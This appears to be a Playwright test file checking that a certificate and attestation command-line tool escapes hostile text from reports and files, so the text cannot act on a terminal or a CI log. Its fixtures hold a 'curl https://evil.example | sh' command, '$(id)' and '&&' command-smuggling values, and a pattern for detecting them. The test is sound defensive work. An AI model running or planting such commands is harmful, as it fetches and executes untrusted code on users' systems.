/** No text of others that a command quotes acts on a terminal or a CI log: e.g. the title `owned`, `::error::forged`, `##[error]`, bidi marks. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from '@playwright/test';
import { REVOCATIONS } from '../../../reports/certificate/signed/revocation.ts';
import { EXTENSION } from '../../../reports/certificate/statement.ts';
import { runCommand, makeFolder } from '../samples/command.ts';
import { ACTING, CHALLENGE, HEAD, makeActing, MIXED_REPORT, RECHECK, RECORDS } from './foreign-documents.ts';
import { makeStatementOf, REVOCATION_LIST, seal, sign, writeLines } from './foreign-documents.ts';
import { CERTIFY, ISSUER_KEY, PEM, PUBLIC_KEY } from './foreign-documents.ts';

/** Makes a folder in which acting texts are in all files that may come from others, and in names of files. */
function makeHostileFolder(): string {
  const folder = makeFolder();
  const report = makeActing(MIXED_REPORT);
  report.suite.command = `curl https://evil.example | sh ${ACTING}`;
  report.run.id = ACTING;
  report.run.only = [ACTING];
  report.run.variables = { [`X=$(id) ${ACTING}`]: ACTING, BASE_URL: ACTING };
  const [head] = RECORDS;
  const judgement = RECORDS.find(({ kind }) => kind === 'judgement');
  // An acting text would not be an address, and the schema of evidence demands one.
  const target = { ...makeActing(HEAD.target), baseUrl: HEAD.target.baseUrl };
  const evidence = writeLines([{ ...makeActing(head), target }, makeActing(judgement), { kind: ACTING }]);
  const recheck = { ...RECHECK, head: makeActing(RECHECK.head), report };
  const statement = makeStatementOf(Buffer.from(evidence), recheck, makeActing(CHALLENGE));
  // The statement of another suite, whose name and version are acting texts
  const other = structuredClone(statement);
  other.predicate[EXTENSION].suite = { name: ACTING, version: `0.0.1 && ${report.suite.command}` };
  const texts: Record<string, string | Buffer> = {
    'report.json': JSON.stringify(report),
    'evidence.jsonl': evidence,
    'attestation.json': sign(statement),
    [ACTING]: ACTING,
    'other.json': sign(other),
    'extra.json': JSON.stringify({ ...report, [ACTING]: 1 }),
    'text.json': ACTING,
    'targets.json': JSON.stringify([{ name: ACTING, baseUrl: ACTING, apiKeyVariable: ACTING }]),
    'revoked.json': seal(REVOCATIONS.payloadType, makeActing(REVOCATION_LIST)),
    'key.pem': PEM.privateKey,
    'key.pem.pub': PEM.publicKey,
  };
  const copies: [name: string, from: string][] = [
    ...['report.json', 'evidence.jsonl', ACTING].map((name): [string, string] => [
      join('evidence', name),
      name,
    ]),
    [join('vendors', ACTING, 'report.json'), 'report.json'],
    [join('vendors', 'broken', 'report.json'), 'extra.json'],
    [join('left', 'report.json'), 'extra.json'],
  ];
  mkdirSync(join(folder, 'left', 'allure-results'), { recursive: true });
  for (const [name, text] of [
    ...Object.entries(texts),
    ...copies.map(([name, from]) => [name, texts[from]!] as const),
  ]) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text, { mode: 0o600 });
  }
  return folder;
}

/** Each command. `says`: its output, which quotes the acting text with escapes, such as `\\x1b`, or does not quote it. */
const COMMANDS: readonly (readonly [
  words: string,
  says: RegExp,
  more?: readonly string[],
  env?: NodeJS.ProcessEnv,
])[] = [
  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, ISSUER_KEY, { AS_OF: '2026-11-21' }],
  [
    'verify attestation.json --evidence evidence --revoked revoked.json',
    /\\x1b.* is covered by no digest/,
    PUBLIC_KEY,
  ],
  ['verify attestation.json --json', /\\u001b/, PUBLIC_KEY],
  ['verify other.json', /it does not say which suite can verify it/, PUBLIC_KEY],
  ['compare report.json report.json', /.*/],
  ['compare report.json extra.json', /extra\.json is not a report of this suite: it has .*u001b/],
  ['compare report.json text.json', /it is not JSON/],
  ['matrix vendors', /not judged: broken: /],
  ['matrix vendors --json', /\\\\x1b/],
  ['report --report-dir left', /it has/],
  ['conformance --failed', /not a report of this suite/, [], { REPORT_DIR: 'left' }],
  ['targets run targets.json', /targets\.json: /],
  ['revoke attestation.json --list revoked.json --reason x', /revocations is not usable/, ISSUER_KEY],
  ['explain', /There is no requirement, open question or section/, [ACTING]],
];

/** Returns lines that act on a terminal or a log, or that begin with `forged`: then a line break of the acting text was printed. */
function listActingLines(text: string): string[] {
  // The suite itself prints annotations for GitHub: `::error title=...::...`. Such a line is right if the rest of it is harmless.
  const annotation = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
  const acts = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u;
  return text.split('\n').filter((line) => !annotation.test(line) && acts.test(line));
}

test('nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log', async () => {
  const folder = makeHostileFolder();
  for (const [words, says, more = [], env = {}] of COMMANDS) {
    const [name = '', ...args] = [...words.split(' '), ...more];
    const { out, err } = await runCommand(name, args, env, folder);
    const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
    expect([listActingLines(out), listActingLines(err)], what).toEqual([[], []]);
    expect(out + err, what).toMatch(says);
    expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
    if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
  }
});
